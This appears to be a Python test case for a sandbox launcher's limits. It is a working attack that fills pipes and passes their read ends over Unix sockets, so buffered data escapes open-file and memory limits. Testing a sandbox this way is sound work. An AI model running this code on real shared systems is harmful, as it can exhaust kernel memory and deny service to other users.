# Keeps full pipes as messages that nobody reads, where no limit of open files counts them.
# group: limits
# held: seccomp cgroup launcher
# cell: small
import array
import os
import socket
import time
def attack(lure):
    kept, taken, slept, idle, end = [], 0, 0, 0, time.monotonic() + lure["seconds"]
    while taken < lure["memory"] + (64 << 20):
        read, write = os.pipe()
        os.set_blocking(write, False)
        before = taken
        try:
            while True:
                taken += os.write(write, bytes(65536))
        except BlockingIOError:
            os.close(write)
        idle = 0 if taken > before else idle + 1
        if idle == 16 or time.monotonic() > end:
            raise TimeoutError(f"no more than {taken} bytes")
        if len(kept) < 200:
            kept.append(socket.socketpair())
        pair = kept[taken // 65536 % len(kept)]
        pair[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [read]))])
        os.close(read)
        if taken >> 20 > slept:
            slept = taken >> 20
            time.sleep(0.001)
    return f"{taken} bytes wait in pipes that are open nowhere"
